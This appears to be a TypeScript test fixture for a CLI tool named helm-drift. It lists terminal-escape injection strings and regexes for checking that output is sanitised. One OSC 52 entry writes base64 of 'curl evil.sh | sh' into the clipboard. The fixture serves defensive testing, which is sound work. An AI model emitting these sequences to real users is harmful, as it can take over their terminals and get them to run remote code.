/** Text a crafted object name, annotation, manager name or path could carry to take over a terminal. */
export const HOSTILE: [string, string][] = [
  ["ESC[2J clearing the screen", "\u001b[2J\u001b[H"],
  ["OSC 52 writing the clipboard", "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007"],
  ["OSC 0 setting the window title", "\u001b]0;pwned\u001b\\"],
  ["CSI via U+009B", "\u009b31mRED\u009b0m"],
  ["bidi overrides", "\u202etxt.exe\u202c\u2066iso\u2069"],
  ["DEL", "a\u007fb"],
  ["CR overwriting the line", "\rInSync"],
];

/** Any character `terminalSafe` escapes, except a newline (the reporters' and the CLI's own). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
export const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Bidi_Control}]/u;

/** The SGR colour sequences helm-drift itself writes (picocolors): the only escapes allowed in its output. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching ANSI escape sequences is the point
export const OWN_SGR = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;
